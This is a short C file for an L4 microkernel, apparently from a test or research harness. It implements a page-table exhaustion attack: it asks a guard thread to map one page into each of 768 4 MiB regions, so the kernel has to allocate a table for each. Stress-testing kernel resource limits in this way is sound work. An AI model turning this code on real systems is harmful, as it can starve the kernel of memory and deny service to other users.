/*
 * Using up what the kernel has only so much of: page tables. One page of our own, mapped into every 4 MiB of our own space,
 * needs a table each time.
 */
#include "attack.h"

#define TABLE_SPAN_LOG2 22u
#define USER_TABLES 768u

void attack_by_exhaustion(void) {
  for (u32 table = 0; table < USER_TABLES; table++) {
    /* The second page of each: the first ones may be somebody's image or area. */
    L4_Accept(L4_FpageLog2((table << TABLE_SPAN_LOG2) + PAGE_BYTES, 12));
    L4_Set_MsgTag(L4_Tag(LABEL_MAP_TO_ME, 0, 0));
    L4_Call_Timeouts(guard_thread, L4_TimePeriod(10000), L4_TimePeriod(10000));
    attack_report.messages++;
  }
  L4_Accept(L4_Nilpage);
}
